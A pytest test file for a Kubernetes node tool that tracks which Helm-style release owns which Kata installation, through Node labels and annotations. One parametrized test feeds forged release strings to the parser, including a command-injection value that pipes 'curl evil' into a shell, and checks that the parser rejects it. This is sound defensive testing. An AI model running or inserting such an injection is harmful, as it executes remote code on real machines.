"""Which release has which installation on a Node, as its records tell."""

from __future__ import annotations

import json
from collections.abc import Mapping

import pytest

from kata_node.cluster import labels
from kata_node.cluster.labels import NodeState, installation_label
from kata_node.cluster.ownership import (
    find_other_installation,
    find_other_release,
    release_error,
    suffix_error,
)
from kata_node.kube import node_status
from kata_node.kube.node_status import NodeStatus

MINE, OTHER = "kata-system/kata", "tenants/kata"


def records(**releases: str) -> dict[str, str]:
    """Return the annotations of a Node with these installations, each of a release."""
    return {
        node_status.annotation(name): node_status.encode(NodeStatus("installed", release=release))
        for name, release in releases.items()
    }


@pytest.mark.parametrize(
    ("releases", "labeled", "found"),
    [
        pytest.param({}, [], "", id="bare node"),
        pytest.param({"blue": MINE}, ["blue"], "blue", id="another suffix of the release"),
        pytest.param({"default": MINE}, ["default"], "default", id="no suffix before"),
        pytest.param({"blue": MINE}, [], "", id="a record that a revert by hand left"),
        pytest.param({"blue": OTHER}, ["blue"], "", id="another release beside it"),
        pytest.param({"blue": ""}, ["blue"], "", id="an install by hand beside it"),
        pytest.param({"green": MINE}, ["green"], "", id="the same suffix"),
    ],
)
def test_an_installation_of_the_same_release_under_another_suffix_is_found(
    releases: Mapping[str, str], labeled: list[str], found: str
) -> None:
    marks = {installation_label(each): "true" for each in labeled}
    annotations = records(**releases)
    assert find_other_installation(marks, annotations, "green", MINE) == found
    assert find_other_installation(marks, annotations, "green", "") == ""


@pytest.mark.parametrize(
    ("releases", "found"),
    [
        ({}, ""),
        ({"green": OTHER}, OTHER),
        ({"green": MINE}, ""),
        ({"green": ""}, ""),
        ({"blue": OTHER}, ""),
    ],
)
def test_a_release_with_the_same_suffix_is_found(releases: Mapping[str, str], found: str) -> None:
    assert find_other_release(records(**releases), "green", MINE) == found
    assert find_other_release(records(**releases), "green", "") == ""


def test_the_errors_name_the_nodes_and_the_way_out() -> None:
    nodes = [f"n{number}" for number in range(7)]
    error = suffix_error("default", nodes, "blue", MINE)
    assert "on the Nodes n0, n1, n2, n3, n4 and 2 more" in error.what
    assert 'set it to ""; ' in error.hint
    error = release_error(OTHER, "n1", "blue", MINE)
    assert "on the Node n1 belongs to the release tenants/kata, not to kata-system/kata" in error.what
    assert "uninstall the release tenants/kata" in error.hint


@pytest.mark.parametrize("forged", ["x/y`; run `curl evil | sh`", "no-namespace", "a/b/c", "A/B", "a /b"])
def test_a_release_that_cannot_be_one_is_none(forged: str) -> None:
    annotation = json.dumps({"outcome": "installed", "release": forged})
    record = node_status.parse(annotation)
    assert record is not None
    assert record.release == ""


def test_a_run_by_hand_keeps_the_release_of_the_record() -> None:
    before = NodeState({installation_label("blue"): "true"}, records(blue=MINE))
    changes = labels.changes("served", before, "blue", NodeStatus("installed", kata_version="3.31.0"))
    record = node_status.read({**before.annotations, **changes.annotations}, "blue")  # type: ignore[dict-item]
    assert record
    assert (record.release, record.kata_version) == (MINE, "3.31.0")


def test_a_served_node_gets_the_release_that_an_earlier_version_did_not_record() -> None:
    served = {installation_label("blue"): "true", "katacontainers.io/kata-runtime": "true"}
    state = NodeState(served, records(blue=""))
    assert not labels.changes("claimed", state, "blue", NodeStatus("installing")).annotations
    assert labels.changes("claimed", state, "blue", NodeStatus("installing", release=MINE)).annotations
